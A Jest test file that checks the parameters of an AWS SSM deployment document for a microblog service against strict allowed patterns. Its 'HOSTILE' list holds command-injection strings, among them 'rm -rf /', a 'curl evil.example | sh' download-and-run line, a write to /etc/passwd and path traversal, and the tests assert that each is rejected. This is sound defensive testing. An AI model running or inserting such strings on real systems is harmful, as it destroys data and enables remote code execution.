import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { parse } from 'yaml';
import {
  DOCUMENT_PARAMETER_PATTERNS,
  type DocumentParameterName,
} from '../../functions/ssm-deploy/parameters';

interface Parameter {
  type: string;
  allowedPattern?: string;
  interpolationType?: string;
  default?: string;
}
interface CommandDocument {
  schemaVersion: string;
  parameters: Record<string, Parameter>;
  mainSteps: { action: string; inputs: { runCommand: string[]; timeoutSeconds?: string } }[];
}

const document = parse(
  readFileSync(resolve(__dirname, '../../ssm-documents/release-systemd-service.yaml'), 'utf8'),
) as CommandDocument;
const shellText = document.mainSteps.flatMap((step) => step.inputs.runCommand).join('\n');
const names = Object.keys(document.parameters);

const HOSTILE = [
  '$(rm -rf /)',
  '`reboot`',
  'microblog; rm -rf /',
  "microblog' && curl evil.example | sh '",
  'microblog"',
  'line1\nline2',
  '/opt/microblog\n',
  'a|b',
  'a&b',
  '${IFS}',
  '../../etc',
  '/opt/../etc',
  'http://127.0.0.1:5000/$(id)',
  'http://127.0.0.1:5000/ ; id',
  ' ',
  '>/etc/passwd',
  '3.11;id',
];

describe('release-systemd-service.yaml', () => {
  test('is a schema 2.2 Command document with one aws:runShellScript step', () => {
    expect(document.schemaVersion).toBe('2.2');
    expect(document.mainSteps.map((s) => s.action)).toEqual(['aws:runShellScript']);
  });

  test('every parameter is a String with an allowedPattern', () => {
    for (const name of names) {
      expect(document.parameters[name]).toMatchObject({
        type: 'String',
        allowedPattern: expect.stringMatching(/^\^.*\$$/),
      });
    }
  });

  test('every parameter the script reads arrives as an environment variable (ENV_VAR)', () => {
    for (const name of Object.keys(DOCUMENT_PARAMETER_PATTERNS)) {
      expect(document.parameters[name]?.interpolationType).toBe('ENV_VAR');
      expect(shellText).toContain(`$SSM_${name}`);
    }
  });

  test('the only {{ }} interpolation is the numeric step timeout, never inside shell text', () => {
    expect(shellText).not.toContain('{{');
    expect(document.mainSteps[0]!.inputs.timeoutSeconds).toBe('{{ executionTimeout }}');
    expect(document.parameters.executionTimeout!.allowedPattern).toBe('^[0-9]{2,4}$');
  });

  test('allowedPatterns are exactly the patterns the Lambda validates with', () => {
    for (const [name, pattern] of Object.entries(DOCUMENT_PARAMETER_PATTERNS)) {
      expect(new RegExp(document.parameters[name]!.allowedPattern!).source).toBe(pattern.source);
    }
    expect(names.filter((n) => n !== 'executionTimeout').sort()).toEqual(
      Object.keys(DOCUMENT_PARAMETER_PATTERNS).sort(),
    );
  });

  test.each(HOSTILE)('%j fails every allowedPattern', (value) => {
    for (const name of names) {
      expect(new RegExp(document.parameters[name]!.allowedPattern!).test(value)).toBe(false);
    }
  });

  test('defaults satisfy their own patterns', () => {
    for (const name of names) {
      const parameter = document.parameters[name]!;
      if (parameter.default !== undefined)
        expect(new RegExp(parameter.allowedPattern!).test(parameter.default)).toBe(true);
    }
  });

  test('the sample microblog values pass', () => {
    const sample: Record<DocumentParameterName, string> = {
      action: 'release',
      commitSha: 'a'.repeat(40),
      artifactBucket: 'deploy-artifacts-123456789012',
      artifactKey: `microblog/${'a'.repeat(40)}/release.tar.gz`,
      serviceName: 'microblog',
      appDirectory: '/opt/microblog',
      healthUrl: 'http://127.0.0.1:5000/',
      pythonVersion: '3.11',
      releaseEnvironment: 'FLASK_APP:microblog.py',
      releaseCommands: 'flask+db+upgrade:flask+translate+compile',
    };
    for (const [name, value] of Object.entries(sample))
      expect(new RegExp(document.parameters[name]!.allowedPattern!).test(value)).toBe(true);
  });
});
